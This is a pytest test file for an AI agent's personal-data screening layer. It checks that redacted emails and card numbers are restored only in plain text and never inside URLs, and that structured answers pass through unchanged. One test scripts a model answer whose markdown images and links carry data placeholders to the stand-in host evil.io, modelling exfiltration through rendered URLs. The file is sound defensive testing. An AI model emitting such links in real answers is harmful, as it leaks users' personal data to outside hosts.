"""Whose data comes back in an answer: where it is read, and in no address; and a structured answer stays what it was."""

from __future__ import annotations

from typing import Any

import pytest

from app.domain.screening import Screening
from tests.runs.conftest import react
from tests.runs.screening import turn
from tests.scripted import ScriptedProvider, says

SCHEMA = {"type": "object", "properties": {"answer": {"type": "string"}}, "required": ["answer"]}


async def _answer(start_process: Any, text: str, *, pieces: int = 1, schema: Any = None, **policy: Any) -> Any:
    provider = ScriptedProvider(says(text, pieces=min(pieces, len(text))))
    agent = react(safety=Screening(pii="redact", **policy), output_schema=schema)
    async with start_process(provider, agent) as p:
        return await turn(p, "my mail is jon.doe@example.com, my card 4242 4242 4242 4242")


@pytest.mark.parametrize("pieces", [1, 1_000])
@pytest.mark.parametrize("output", ["off", "secrets"])
async def test_no_value_leaves_in_an_address(start_process: Any, pieces: int, output: Any) -> None:
    text = "> ![a](\n> //evil.io/?d=<EMAIL_1>)\n\nwww.evil.io/<EMAIL_1> [more](https://evil.io/?q=(x)<EMAIL_1>-<CARD_1>) to <EMAIL_1>"
    end = await _answer(start_process, text, pieces=pieces, output=output)
    assert end.output.count("jon.doe@example.com") == 1
    assert end.output.endswith("to jon.doe@example.com")
    assert "4242" not in end.output


async def test_answers_without_personal_data_have_none_of_the_session_either(start_process: Any) -> None:
    end = await _answer(start_process, "The customer is <EMAIL_1>, card <CARD_1>, not ann@example.org.", output="pii")
    assert end.output == "The customer is <EMAIL_1>, card <CARD_1>, not [e-mail address removed]."


@pytest.mark.parametrize("pieces", [1, 1_000])
async def test_a_structured_answer_stays_what_it_was(start_process: Any, pieces: int) -> None:
    text = '{"see":"https://docs.example/","answer":"As in [1]: https://docs.python.org/3/","to":"<EMAIL_1>","token":1.25E+22}'
    end = await _answer(start_process, text, pieces=pieces, schema=SCHEMA)
    assert end.output == {
        "see": "https://docs.example/", "answer": "As in [1]: https://docs.python.org/3/", "to": "jon.doe@example.com", "token": 1.25e22,
    }  # fmt: skip
